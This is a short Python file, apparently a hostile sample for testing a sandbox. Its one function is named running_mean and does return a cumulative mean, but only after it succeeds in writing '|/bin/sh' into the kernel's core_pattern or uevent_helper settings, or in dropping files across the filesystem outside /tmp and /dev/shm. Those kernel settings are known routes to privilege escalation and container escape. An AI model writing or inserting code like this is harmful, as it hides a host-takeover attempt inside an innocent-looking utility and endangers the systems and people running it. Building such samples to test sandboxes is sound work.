"""Writes wherever it can outside of its own /tmp and /dev/shm, and into the kernel's settings."""
import os

PLACES = ["/proc/sys/kernel/core_pattern", "/sys/kernel/uevent_helper", "/dev/manyheads_hostile", "/etc/manyheads_hostile"]


def running_mean(x):
    places = list(PLACES)
    for folder, folders, _ in os.walk("/"):
        folders[:] = [f for f in folders if os.path.join(folder, f) not in ("/tmp", "/dev/shm")]
        places.append(os.path.join(folder, "manyheads_hostile"))
        if folder.count("/") > 4:
            folders.clear()
    for place in places:
        if place.startswith(("/tmp/", "/dev/shm/")):
            continue
        try:
            with open(place, "w") as file:
                file.write("|/bin/sh")
        except OSError:
            continue
        return x.cumsum(0) / x.new_ones(len(x)).cumsum(0)
    raise LookupError
